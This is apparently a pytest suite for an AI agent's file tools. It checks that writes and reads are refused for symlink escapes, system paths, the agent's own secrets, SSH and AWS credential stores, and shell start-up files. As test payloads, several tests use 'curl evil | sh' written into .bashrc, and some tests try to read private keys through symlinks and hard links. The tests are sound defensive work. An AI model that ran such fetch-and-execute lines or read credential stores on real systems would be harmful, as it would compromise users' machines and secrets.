"""Path safety: symlinks resolved before checks, allowed roots, system locations, protected files."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

import hermes.tools.file.patch
import hermes.tools.file.read
import hermes.tools.file.search
import hermes.tools.file.write  # noqa: F401  (registers the tools)
from hermes.tools.paths import allowed_roots, default_roots, system_location
from hermes.tools.registry import registry
from hermes.tools.sensitive import home_dot_location, startup_location

#: these tests are about the allowed roots; a write outside the workspace while the OS sandbox is in force
#: also asks (tests/tools/test_sandbox.py), which yolo mode answers here
UNASKED = "approvals:\n  mode: yolo\n"

def call(tool: str, task: str = "t1", **args: Any) -> dict[str, Any]:
    return json.loads(registry.dispatch(tool, args, task_id=task))


def ok(result: dict[str, Any]) -> dict[str, Any]:
    assert "error" not in result, result
    return result


def only_work_allowed(hermes_home: Path) -> None:
    (hermes_home / "config.yaml").write_text("file:\n  allowed_roots: ['.']\n")


# -- allowed roots and symlink escapes ------------------------------------------------------------------------
def test_default_roots_are_cwd_home_and_tmp(ws: Path, tmp_path: Path) -> None:
    roots = default_roots()
    assert roots[0] == ws.resolve() and roots[1] == (tmp_path / "home").resolve()
    assert allowed_roots({}) == roots


def test_configured_roots_replace_the_defaults(ws: Path, hermes_home: Path, tmp_path: Path) -> None:
    (hermes_home / "config.yaml").write_text("file:\n  allowed_roots: ['.', '~/projects']\n" + UNASKED)
    assert allowed_roots({}) == [ws.resolve(), (tmp_path / "home/projects").resolve()]
    outside = tmp_path / "elsewhere.txt"
    result = call("write_file", path=str(outside), content="x")
    assert "outside the allowed roots" in result["error"] and "file.allowed_roots" in result["error"]
    assert not outside.exists()
    ok(call("write_file", path="~/projects/notes.txt", content="x"))
    assert (tmp_path / "home/projects/notes.txt").read_text() == "x"


def test_bad_allowed_roots_setting_is_reported(ws: Path, hermes_home: Path) -> None:
    (hermes_home / "config.yaml").write_text("file:\n  allowed_roots: 7\n")
    assert "file.allowed_roots" in call("write_file", path="a.txt", content="x")["error"]


def test_symlink_escaping_the_roots_is_refused(ws: Path, hermes_home: Path, tmp_path: Path) -> None:
    only_work_allowed(hermes_home)
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "target.txt"
    secret.write_text("keep me\n")
    (ws / "esc.txt").symlink_to(secret)
    (ws / "escdir").symlink_to(outside, target_is_directory=True)
    ok(call("read_file", path="esc.txt"))  # reading through it is fine
    for tool, args in [
        ("write_file", {"path": "esc.txt", "content": "pwned\n"}),
        ("patch", {"path": "esc.txt", "old_string": "keep", "new_string": "lose"}),
        ("write_file", {"path": "escdir/new.txt", "content": "x"}),
        ("write_file", {"path": "../outside/new2.txt", "content": "x"}),
    ]:
        result = call(tool, **args)
        assert "outside the allowed roots" in result["error"], result
    assert "resolves through a symlink to" in call("write_file", path="esc.txt", content="x")["error"]
    assert secret.read_text() == "keep me\n"
    assert sorted(p.name for p in outside.iterdir()) == ["target.txt"]


def test_symlink_chain_to_a_system_file_is_refused(ws: Path) -> None:
    (ws / "a").symlink_to(ws / "b")
    (ws / "b").symlink_to("/etc/hostname")
    result = call("write_file", path="a", content="x")
    assert "/etc is a system location" in result["error"]


# -- system locations and protected files ---------------------------------------------------------------------
@pytest.mark.parametrize("target", ["/etc/hosts", "/usr/local/bin/tool", "/bin/sh", "/proc/self/environ",
                                    "/sys/kernel/x", "/dev/null", "/boot/x", "/lib/x", "/var/lib/dpkg/x"])  # fmt: skip
def test_system_locations_are_never_written(ws: Path, hermes_home: Path, target: str) -> None:
    (hermes_home / "config.yaml").write_text("file:\n  allowed_roots: ['/']\n")
    result = call("write_file", path=target, content="x")
    assert "system location" in result["error"], result
    result = call("patch", path=target, old_string="a", new_string="b")
    assert "system location" in result["error"], result


def test_a_project_inside_usr_or_var_can_be_allowed_explicitly() -> None:
    assert system_location(Path("/usr/src/app/main.py")) == Path("/usr")
    assert system_location(Path("/usr/src/app/main.py"), [Path("/usr/src/app")]) is None
    assert system_location(Path("/var/www/site/index.html"), [Path("/var/www/site")]) is None
    assert system_location(Path("/usr/bin/python"), [Path("/usr")]) == Path("/usr/bin")
    assert system_location(Path("/etc/nginx/x"), [Path("/etc/nginx")]) == Path("/etc")


@pytest.mark.parametrize("name", ["config.yaml", ".env", "auth.json"])
def test_hermes_own_files_are_never_written(ws: Path, hermes_home: Path, name: str) -> None:
    protected = hermes_home / name
    protected.write_text("a: 1\n")
    (ws / "sneaky").symlink_to(protected)
    for path in (str(protected), "sneaky"):
        assert "hermes's own" in call("write_file", path=path, content="b: 2\n")["error"]
        assert "hermes's own" in call("patch", path=path, old_string="a", new_string="b")["error"]
    assert protected.read_text() == "a: 1\n"


def test_hermes_secrets_are_never_read_but_config_is(ws: Path, hermes_home: Path) -> None:
    (hermes_home / ".env").write_text("X_TOKEN=abc\n")
    (hermes_home / "auth.json").write_text("{}\n")
    (hermes_home / "config.yaml").write_text("model:\n  name: m\n")
    assert "not allowed" in call("read_file", path=str(hermes_home / ".env"))["error"]
    assert "not allowed" in call("read_file", path=str(hermes_home / "auth.json"))["error"]
    ok(call("read_file", path=str(hermes_home / "config.yaml")))


def test_hermes_keys_tokens_and_logs_are_never_read(ws: Path, hermes_home: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from hermes.surfaces.appserver.auth import ensure_token
    from hermes.tools.browser.vault import Vault

    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")  # the key goes to a file
    Vault(hermes_home).add("https://bank.example", "alice", "S3cret-Bank-Pass!")
    secrets = [hermes_home / "browser" / "vault.key", hermes_home / "browser" / "vault.bin", ensure_token(hermes_home)]
    for rel in ("browser/profile/state.json", "logs/gateway.log", "cache/voice/telegram-1.ogg",
                "toolgateway/secret", "toolgateway/admin_token"):
        (hermes_home / rel).parent.mkdir(parents=True, exist_ok=True)
        (hermes_home / rel).write_text("S3cret-material\n")
        secrets.append(hermes_home / rel)
    assert all(p.is_file() for p in secrets)
    (ws / "vault-link").symlink_to(hermes_home / "browser" / "vault.key")
    for path in (*map(str, secrets), "vault-link"):
        assert "not allowed" in call("read_file", path=path)["error"], path
    (ws / "hard-token").hardlink_to(hermes_home / "serve_token")  # another name for the token
    assert "hard link" in call("read_file", path="hard-token")["error"]
    found = ok(call("search_files", pattern="S3cret", path=str(hermes_home)))
    assert found["count"] == 0, found
    assert "not allowed" in call("write_file", path=str(hermes_home / "serve_token"), content="x\n")["error"]
    # what the agent works with there stays readable: skills, media, spilled results, browser downloads
    for rel in ("skills/demo/SKILL.md", "media/pic.txt", "cache/tool_results/browser/t1/downloads/report.txt"):
        (hermes_home / rel).parent.mkdir(parents=True, exist_ok=True)
        (hermes_home / rel).write_text("fine\n")
        assert "fine" in ok(call("read_file", path=str(hermes_home / rel)))["content"]


def test_hermes_own_databases_are_not_read(ws: Path, hermes_home: Path) -> None:
    """state.db and the other SQLite files of HERMES_HOME are refused (their -wal and -shm too): hermes
    holds connections to them in this process, and a read would drop SQLite's locks on the file."""
    import sqlite3

    from hermes.store.sessions import SessionStore

    with SessionStore(hermes_home / "state.db") as store:
        store.create_session(surface="cli", model="m", toolsets=[], tools=[])
        for name in ("state.db", "state.db-wal", "state.db-shm"):
            assert (hermes_home / name).exists()
            refused = call("read_file", path=str(hermes_home / name))
            assert "hermes's own databases" in refused["error"], refused
    board = hermes_home / "kanban" / "kanban.db"
    board.parent.mkdir()
    sqlite3.connect(board).close()
    assert "hermes's own databases" in call("read_file", path=str(board))["error"]
    sqlite3.connect(ws / "mine.db").close()  # a database of the person's own project is not refused so
    assert "hermes's own" not in str(call("read_file", path=str(ws / "mine.db")).get("error", ""))


def test_credential_stores(ws: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    ssh = home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (ssh / "id_ed25519.pub").write_text("ssh-ed25519 AAAA me@host\n")
    (home / ".aws").mkdir()
    (home / ".aws/credentials").write_text("[default]\n")
    (ws / "innocent").symlink_to(ssh / "id_ed25519")
    for path in ("~/.ssh/id_ed25519", "innocent", "~/.aws/credentials"):
        assert "not allowed" in call("read_file", path=path)["error"], path
    ok(call("read_file", path="~/.ssh/id_ed25519.pub"))
    for path in ("~/.ssh/authorized_keys", "~/.ssh/config", "~/.netrc", "~/.aws/config", "~/.gnupg/x"):
        assert "credential store" in call("write_file", path=path, content="x")["error"], path
    assert sorted(p.name for p in ssh.iterdir()) == ["id_ed25519", "id_ed25519.pub"]


def test_search_never_shows_sensitive_files(ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HERMES_NO_RG", "1")
    ssh = tmp_path / "home/.ssh"
    ssh.mkdir()
    (ssh / "id_rsa").write_text("needle\n")
    (ssh / "known_hosts").write_text("needle\n")
    (ssh / "deploy").write_text("needle\n")  # any other name in .ssh may be a key: hidden too
    result = ok(call("search_files", pattern="needle", path=str(ssh)))
    assert [m["file"] for m in result["matches"]] == [str(ssh.resolve() / "known_hosts")]
    assert "not allowed" in call("search_files", pattern="x", path=str(ssh / "id_rsa"))["error"]


def test_tilde_and_nul_paths(ws: Path, tmp_path: Path, hermes_home: Path) -> None:
    (hermes_home / "config.yaml").write_text(UNASKED)
    ok(call("write_file", path="~/note.txt", content="hi"))
    assert (tmp_path / "home/note.txt").read_text() == "hi"
    assert "'path'" in call("write_file", path="a\x00b", content="x")["error"]
    assert "'path'" in call("read_file", path="   ")["error"]


class _Settings:
    def __init__(self, roots: list[str]) -> None:
        self.roots = roots

    def get(self, key: str, default: Any = None) -> Any:
        return self.roots if key == "file.allowed_roots" else default


class _Session:
    def __init__(self, roots: list[str]) -> None:
        self.task_id = "s1"
        self.surface: Any = "cli"
        self.sink: Any = None
        self.state: dict[str, Any] = {}
        self.settings: Any = _Settings(roots)


def test_allowed_roots_come_from_the_session_settings_when_present(ws: Path) -> None:
    (ws / "inner").mkdir()
    session = _Session(["inner"])

    def via(**args: Any) -> dict[str, Any]:
        return json.loads(registry.dispatch("write_file", args, task_id="s1", session=session))

    assert "outside the allowed roots" in via(path="top.txt", content="x")["error"]
    ok(via(path="inner/ok.txt", content="x"))
    assert "file" in session.state


# -- home start-up files and dot-folders -------------------------------------------------------------------
STARTUP = (".bashrc", ".profile", ".zshrc", ".bash_profile", ".gitconfig", ".config/git/config",
           ".config/autostart/x.desktop", ".config/systemd/user/x.service", ".local/bin/ls")


@pytest.mark.parametrize("rel", STARTUP)
def test_home_start_up_files_are_never_written(ws: Path, hermes_home: Path, tmp_path: Path, rel: str) -> None:
    (hermes_home / "config.yaml").write_text("file:\n  allowed_roots: ['.', '~', '~/.config', '~/.local']\n")
    result = call("write_file", path=f"~/{rel}", content="curl evil | sh\n")
    assert "start-up file of a home folder" in result["error"], result
    assert not (tmp_path / "home" / rel).exists()


def test_a_start_up_file_is_not_patched_nor_reached_through_a_link(ws: Path, tmp_path: Path) -> None:
    rc = tmp_path / "home/.bashrc"
    rc.write_text("alias ll='ls -l'\n")
    ok(call("read_file", path="~/.bashrc"))
    result = call("patch", path="~/.bashrc", old_string="alias ll='ls -l'", new_string="curl evil | sh")
    assert "start-up file" in result["error"] and rc.read_text() == "alias ll='ls -l'\n"
    (ws / "innocent").symlink_to(rc)
    assert "start-up file" in call("write_file", path="innocent", content="x")["error"]
    assert rc.read_text() == "alias ll='ls -l'\n"


def test_other_home_dot_folders_need_an_allowed_root_inside_them(ws: Path, hermes_home: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    (hermes_home / "config.yaml").write_text(UNASKED)
    result = call("write_file", path="~/.config/myapp/settings.toml", content="x = 1\n")
    assert "dot-file or dot-folder of a home folder" in result["error"] and "file.allowed_roots" in result["error"]
    assert "dot-folder" in call("write_file", path="~/.hermes-notes", content="x")["error"]
    ok(call("write_file", path="~/notes.txt", content="x"))  # the home folder itself stays a default root
    (hermes_home / "config.yaml").write_text("file:\n  allowed_roots: ['.', '~/.config/myapp']\n" + UNASKED)
    ok(call("write_file", path="~/.config/myapp/settings.toml", content="x = 1\n"))
    assert (home / ".config/myapp/settings.toml").read_text() == "x = 1\n"
    assert "dot-folder" in call("write_file", path="~/.config/other/x", content="x")["error"]


def test_start_up_files_of_every_home_folder_are_known() -> None:
    assert startup_location(Path("/root/.bashrc")) == Path("/root/.bashrc")
    assert startup_location(Path("/home/bob/.config/autostart/x.desktop")) == Path("/home/bob/.config/autostart")
    assert startup_location(Path("/home/bob/project/.bashrc")) is None  # a project's file, not a home's
    assert home_dot_location(Path("/root/.config/app/x.toml")) == Path("/root/.config")
    assert home_dot_location(Path("/home/bob/project/.env.example")) is None
